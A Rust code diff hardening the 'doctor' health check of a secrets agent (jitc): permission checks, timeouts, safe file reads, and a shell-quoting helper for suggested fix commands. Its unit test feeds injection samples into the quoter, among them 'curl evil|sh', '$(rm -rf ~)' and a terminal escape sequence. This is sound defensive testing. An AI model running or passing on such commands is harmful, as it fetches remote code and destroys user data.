@@ -79,6 +79,10 @@ pub fn run(args: Args) -> Result<u8> {
     Ok(u8::from(failed))
 }
 
+/// How long the agent may take to answer each question: a hung agent is a finding, not
+/// a hung doctor.
+const ASK_TIMEOUT: std::time::Duration = std::time::Duration::from_secs(5);
+
 fn checks() -> Vec<Check> {
     let socket = socket_path();
     let mut checks = vec![socket_dir(&socket)];
@@ -109,19 +113,58 @@ fn shown(p: &Path) -> String {
     visible(&p.display().to_string()).into_owned()
 }
 
+/// A word for a command the user may paste into a shell: as is when it is plain, else
+/// quoted — `'…'`, or `$'…'` with escapes when it holds control characters — so a file
+/// or server name can neither run anything nor hide what the line does.
+fn sh(word: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "_./:@%+=,-~".contains(c);
+    if !word.is_empty() && word.chars().all(plain) && !word.starts_with('~') {
+        return word.to_owned();
+    }
+    if !word.chars().any(char::is_control) {
+        return format!("'{}'", word.replace('\'', r"'\''"));
+    }
+    let mut out = String::from("$'");
+    for c in word.chars() {
+        match c {
+            '\\' => out.push_str(r"\\"),
+            '\'' => out.push_str(r"\'"),
+            c if c.is_control() => {
+                let mut buf = [0u8; 4];
+                for b in c.encode_utf8(&mut buf).bytes() {
+                    out.push_str(&format!("\\x{b:02x}"));
+                }
+            }
+            c => out.push(c),
+        }
+    }
+    out.push('\'');
+    out
+}
+
+fn sh_path(p: &Path) -> String {
+    sh(&p.to_string_lossy())
+}
+
 fn my_uid() -> u32 {
     nix::unistd::getuid().as_raw()
 }
 
-/// What is unsafe about a directory or file only its owner should touch: another owner,
-/// or any permission for group/others beyond `allowed`.
-fn unsafe_mode(meta: &std::fs::Metadata, allowed: u32) -> Option<String> {
+/// What is unsafe about a path (followed, as the agent follows it): another owner
+/// (root passes where `root_ok`), or any of the `forbidden` permission bits — the
+/// agent's own rules (agentd's `fsperm`), so what it accepts passes here too.
+fn unsafe_mode(meta: &std::fs::Metadata, forbidden: u32, root_ok: bool) -> Option<String> {
     let mode = meta.permissions().mode() & 0o7777;
-    if meta.uid() != my_uid() {
+    if meta.uid() != my_uid() && !(root_ok && meta.uid() == 0) {
         return Some(format!("belongs to uid {}, not you", meta.uid()));
     }
-    (mode & 0o077 & !allowed != 0).then(|| format!("is mode {mode:04o}"))
+    (mode & forbidden != 0).then(|| format!("is mode {mode:04o}"))
 }
+
+/// Not writable by others: the vault's and policy's directories, the policy, the log.
+const NOT_SHARED: u32 = 0o022;
+/// Closed to others: the socket's directory, the vault file and its backup.
+const PRIVATE: u32 = 0o077;
 
 fn socket_dir(socket: &Path) -> Check {
     let Some(dir) = socket.parent() else {
@@ -136,14 +179,19 @@ fn socket_dir(socket: &Path) -> Check {
             "socket",
             format!("{} is not there yet: the agent makes it (0700)", shown(dir)),
         ),
-        Ok(meta) => match unsafe_mode(&meta, 0) {
+        Ok(meta) if meta.uid() != my_uid() => bad(
+            "socket",
+            format!("{} belongs to uid {}, not you", shown(dir), meta.uid()),
+            "set JITC_SOCK to a path in a directory of your own, or unset it",
+        ),
+        Ok(meta) => match unsafe_mode(&meta, PRIVATE, false) {
             Some(why) => bad(
                 "socket",
                 format!(
                     "{} {why}: others could reach the agent's socket",
                     shown(dir)
                 ),
-                format!("chmod 700 {} (and 'jitc stop; jitc agent')", shown(dir)),
+                format!("chmod 700 {} (and 'jitc stop; jitc agent')", sh_path(dir)),
             ),
             None => ok("socket", format!("{} (0700, yours)", shown(socket))),
         },
@@ -152,7 +200,7 @@ fn socket_dir(socket: &Path) -> Check {
 
 /// The agent on `socket`, without starting one, and its status.
 fn agent(socket: &Path, checks: &mut Vec<Check>) -> (Option<Client>, Option<AgentStatus>) {
-    let mut client = match Client::connect(socket) {
+    let mut client = match Client::connect_within(socket, ASK_TIMEOUT) {
         Ok(c) => c,
         Err(Error::NotRunning { .. }) => {
             checks.push(bad(
@@ -317,15 +365,19 @@ fn vault(status: &AgentStatus) -> Check {
         b.push(".bak");
         PathBuf::from(b)
     };
-    for (p, fix_mode) in [(dir, "700"), (&*path, "600"), (&*backup, "600")] {
-        let Ok(meta) = std::fs::symlink_metadata(p) else {
+    for (p, forbidden, fix) in [
+        (dir, NOT_SHARED, "go-w"),
+        (&*path, PRIVATE, "600"),
+        (&*backup, PRIVATE, "600"),
+    ] {
+        let Ok(meta) = std::fs::metadata(p) else {
             continue;
         };
-        if let Some(why) = unsafe_mode(&meta, 0) {
+        if let Some(why) = unsafe_mode(&meta, forbidden, false) {
             return bad(
                 "vault",
                 format!("{} {why}", shown(p)),
-                format!("chmod {fix_mode} {}", shown(p)),
+                format!("chmod {fix} {}", sh_path(p)),
             );
         }
     }
@@ -341,17 +393,17 @@ fn policy(status: &AgentStatus) -> Check {
     let path = PathBuf::from(&status.policy.path);
     let dir = path.parent().unwrap_or(Path::new("/"));
     for p in [dir, &*path] {
-        let Ok(meta) = std::fs::symlink_metadata(p) else {
+        let Ok(meta) = std::fs::metadata(p) else {
             continue;
         };
-        if let Some(why) = unsafe_mode(&meta, 0o055) {
+        if let Some(why) = unsafe_mode(&meta, NOT_SHARED, true) {
             return bad(
                 "policy",
                 format!(
                     "{} {why}: someone else could change who gets your secrets",
                     shown(p)
                 ),
-                format!("chmod go-w {}", shown(p)),
+                format!("chmod go-w {}", sh_path(p)),
             );
         }
     }
@@ -360,8 +412,8 @@ fn policy(status: &AgentStatus) -> Check {
             "policy",
             format!("{}: {} — every lease is refused", shown(&path), visible(e)),
             format!(
-                "fix {} ('jitc policy explain' shows what it decides)",
-                shown(&path)
+                "edit {} ('jitc policy explain' shows what it decides)",
+                sh_path(&path)
             ),
         );
     }
@@ -420,18 +472,18 @@ fn audit(client: &mut Client, status: &AgentStatus) -> Check {
         return bad(
             "audit",
             format!("{}: {}", shown(&path), visible(e)),
-            format!("make {} writable by you, then 'jitc status'", shown(&path)),
+            format!("chmod u+w {}, then 'jitc status'", sh_path(&path)),
         );
     }
     for p in [path.parent().unwrap_or(Path::new("/")), &*path] {
-        if std::fs::symlink_metadata(p).is_err() {
+        if std::fs::metadata(p).is_err() {
             continue;
         }
         if let Err(e) = nix::unistd::access(p, nix::unistd::AccessFlags::W_OK) {
             return bad(
                 "audit",
                 format!("{} is not writable ({e}): leases will be refused", shown(p)),
-                format!("chmod u+w {}", shown(p)),
+                format!("chmod u+w {}", sh_path(p)),
             );
         }
     }
@@ -490,7 +542,7 @@ fn sock_env(socket: &Path, answers: bool) -> Check {
         );
     }
     if set && socket != default {
-        let other = Client::connect(&default).is_ok();
+        let other = Client::connect_within(&default, ASK_TIMEOUT).is_ok();
         if !answers && other {
             return bad(
                 "JITC_SOCK",
@@ -512,7 +564,7 @@ fn sock_env(socket: &Path, answers: bool) -> Check {
                 ),
                 format!(
                     "stop the one you do not use: JITC_SOCK={} jitc stop",
-                    shown(&default)
+                    sh_path(&default)
                 ),
             );
         }
@@ -668,9 +720,10 @@ fn mcp_entries() -> Vec<Check> {
             .as_deref()
             .and_then(|p| std::fs::canonicalize(p).ok());
         let fix = |me: &Path| {
+            let name = sh(&name);
             format!(
                 "{host} mcp remove {name} && {host} mcp add {name} -- {} mcp",
-                shown(me)
+                sh_path(me)
             )
         };
         match (&target, &me) {
@@ -693,7 +746,7 @@ fn mcp_entries() -> Vec<Check> {
         }
     }
     if checks.is_empty() {
-        let me = me.map(|m| shown(&m)).unwrap_or_else(|| "jitc".into());
+        let me = me.map(|m| sh_path(&m)).unwrap_or_else(|| "jitc".into());
         checks.push(ok(
             "mcp",
             format!("no coding agent runs jitc over MCP yet (codex mcp add jitc -- {me} mcp)"),
@@ -702,19 +755,42 @@ fn mcp_entries() -> Vec<Check> {
     checks
 }
 
-/// A configuration file, if it is there and of a sane size.
+/// A configuration file, if it is a regular file (not a FIFO that would block, nor a
+/// device that never ends — a cloned repository can hold either) of a sane size.
 fn read_small(path: &Path) -> Option<String> {
-    const MAX: u64 = 16 << 20;
-    let meta = std::fs::metadata(path).ok()?;
-    if meta.len() > MAX {
+    use std::io::Read;
+    use std::os::unix::fs::OpenOptionsExt;
+    const MAX: u64 = 64 << 20;
+    let file = std::fs::OpenOptions::new()
+        .read(true)
+        .custom_flags(libc::O_NONBLOCK | libc::O_NOCTTY)
+        .open(path)
+        .ok()?;
+    if !file.metadata().ok()?.is_file() {
         return None;
     }
-    std::fs::read_to_string(path).ok()
+    let mut text = String::new();
+    file.take(MAX + 1).read_to_string(&mut text).ok()?;
+    (text.len() as u64 <= MAX).then_some(text)
 }
 
+/// Most files `doctor` reads in the current directory; `jitc scan` reads them all.
+const SCAN_FILES: usize = 20_000;
+
 fn scan() -> Check {
-    let here = PathBuf::from(".");
-    match jitc::scan::scan(&here) {
+    let here = std::env::current_dir().unwrap_or_else(|_| PathBuf::from("."));
+    let home = std::env::var_os("HOME").map(PathBuf::from);
+    if here == Path::new("/") || home.is_some_and(|h| h == here) {
+        return ok(
+            "scan",
+            "not run in your home directory: run 'jitc doctor' or 'jitc scan' in a project",
+        );
+    }
+    match jitc::scan::scan_at_most(Path::new("."), SCAN_FILES) {
+        Ok(r) if r.findings.is_empty() && r.stopped => ok(
+            "scan",
+            format!("none in the first {SCAN_FILES} files here; 'jitc scan' reads them all"),
+        ),
         Ok(r) if r.findings.is_empty() => ok("scan", "no plaintext credentials in this directory"),
         Ok(r) => {
             let first = &r.findings[0];
@@ -731,10 +807,25 @@ fn scan() -> Check {
                 ),
                 format!(
                     "jitc import {} > .env.jitc, then delete it ('jitc scan' lists them all)",
-                    visible(files[0])
+                    sh(files[0])
                 ),
             )
         }
         Err(e) => bad("scan", e.to_string(), "jitc scan"),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::sh;
+
+    #[test]
+    fn words_for_the_shell_run_nothing_and_hide_nothing() {
+        assert_eq!(sh("/home/u/.local/bin/jitc"), "/home/u/.local/bin/jitc");
+        assert_eq!(sh("x; curl evil|sh"), "'x; curl evil|sh'");
+        assert_eq!(sh("it's $(rm -rf ~)"), r"'it'\''s $(rm -rf ~)'");
+        assert_eq!(sh("a\u{1b}]0;pwned\u{7}b"), r"$'a\x1b]0;pwned\x07b'");
+        assert_eq!(sh("~/x"), "'~/x'");
+        assert_eq!(sh(""), "''");
     }
 }
